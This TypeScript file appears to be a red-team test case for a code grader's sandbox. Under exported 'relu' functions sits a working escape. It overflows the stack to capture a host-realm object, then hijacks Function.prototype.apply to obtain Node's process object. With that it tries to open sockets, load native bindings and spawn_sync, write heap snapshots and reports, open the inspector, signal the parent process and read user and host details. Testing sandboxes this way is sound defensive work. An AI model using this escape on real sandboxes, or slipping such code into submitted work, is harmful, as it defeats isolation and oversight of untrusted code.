// 86-overflow-unix-socket [escape]
// Tries: as 80; makes socket files, asks for bindings, add-ons, reports, the debugger, priorities
// A correct grader must report: wrong or forbidden or crash. No socket file.
let H: any = null; let proc: any = null;
function rec(): void { try { import('x').catch(() => {}); } catch (e: any) { if (typeof e === 'object' && e && !(e instanceof Error)) H ??= e; } rec(); }
try { rec(); } catch {}
let info = 'H=' + (H !== null);
if (H) {
  const FP = Object.getPrototypeOf(Object.getPrototypeOf(H.constructor)); const apply = FP.apply;
  FP.apply = function (self: any, args: any) { if (self && typeof self.getBuiltinModule === 'function') { proc = self; FP.apply = apply; } return Reflect.apply(this, self, args ?? []); };
  Promise.reject(1);
}
let st = '';
const go = () => { if (!proc || st) return; st = ' '; const t = (n: string, f: () => any) => { try { st += n + ':' + f() + '; '; } catch (e) { st += n + '!' + String(e).slice(0, 90) + '; '; } };
 t('unix', () => { const s = proc.getBuiltinModule('node:net').createServer(() => {}); s.on('error', (e: any) => { st += ' UERR ' + e; }); s.listen('/tmp/pravah-canary/pwned.sock'); return 'asked'; });
 t('tcp', () => { const s = proc.getBuiltinModule('node:net').createServer(() => {}); s.on('error', (e: any) => { st += ' TERR ' + e; }); s.listen(0, '127.0.0.1'); return 'asked'; });
 t('binding', () => typeof proc.binding('fs')); t('spawn_sync', () => typeof proc.binding('spawn_sync')); t('dlopen', () => proc.dlopen({ exports: {} }, '/x'));
 t('report', () => proc.report.writeReport('/tmp/pravah-canary/report.json')); t('heap', () => proc.getBuiltinModule('node:v8').writeHeapSnapshot('/tmp/pravah-canary/h.heapsnapshot')); t('inspector', () => proc.getBuiltinModule('node:inspector').open(0)); t('kill0', () => proc.kill(proc.ppid, 0)); t('chdir', () => proc.chdir('/')); t('trace', () => proc.getBuiltinModule('node:trace_events').createTracing({ categories: ['node'] }).enable()); t('os', () => proc.getBuiltinModule('node:os').userInfo().username + ' ' + proc.getBuiltinModule('node:os').hostname()); t('prio', () => proc.getBuiltinModule('node:os').setPriority(proc.ppid, 5)); };
export function relu(x: number[]): number[] { go(); throw new Error(info + st); }
export function reluBackward(d: number[], x: number[]): number[] { throw new Error(info + st); }
